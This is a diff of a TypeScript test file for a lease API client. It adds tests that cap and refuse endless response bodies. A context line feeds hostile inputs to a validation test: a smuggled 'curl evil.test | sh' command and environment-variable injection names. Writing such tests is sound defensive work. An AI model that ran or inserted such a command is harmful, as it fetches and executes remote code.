@@ -1,7 +1,7 @@
 import { inspect } from 'node:util';
 import type { LeaseError } from '../../../client/leases';
 import type { RecipientJwk } from '../../../workflows/words';
-import { json, leasesOf, refusal, TOKEN } from '../../support/answering';
+import { endless, json, leasesOf, refusal, TOKEN } from '../../support/answering';
 import { forge } from '../../support/forge';
 
 const ID = 'a'.repeat(24);
@@ -271,6 +271,40 @@ test.each(['X=1; curl evil.test | sh #', 'BASH_FUNC_ls%%', 'lower', 'LD_\u001b[2
     for (const _ of catalogs) expect(await failureOf(leases.offered('backend', 'prd'))).toMatchObject(told);
   },
 );
+
+test.each([200, 401, 503])(
+  'an answer with status %i that does not end is not waited for, and not asked for again',
+  async (status) => {
+    const { response, sent } = endless(status);
+    let asked = 0;
+    const { leases } = leasesOf([], {
+      fetch: async () => {
+        asked += 1;
+        return response;
+      },
+    });
+    expect(await failureOf(leases.get(ID))).toMatchObject({
+      code: 'Unavailable',
+      message: 'The answer of the Leasehold API at https://api.test is larger than any that it gives.',
+    });
+    expect(asked).toBe(1);
+    // Megabytes, some of them on their way.
+    expect(sent()).toBeLessThan(12);
+  },
+);
+
+test('what an answer that does not end may tell of is disowned', async () => {
+  const ended = json({ lease_id: ID, undelivered: 'revoke accepted' });
+  const { response, sent } = endless(201);
+  const answers = [response, ended];
+  const { leases } = leasesOf([], { fetch: async () => answers.shift()! });
+  expect(await failureOf(leases.issue(REQUEST))).toMatchObject({
+    code: 'Unavailable',
+    leaseId: ID,
+    undelivered: 'revoke accepted',
+  });
+  expect(sent()).toBeLessThan(12);
+});
 
 test('each issue without an idempotency key has one of its own, and one that no header can hold is hashed', async () => {
   const { leases, asked } = leasesOf([refusal(409, 'paused')]);
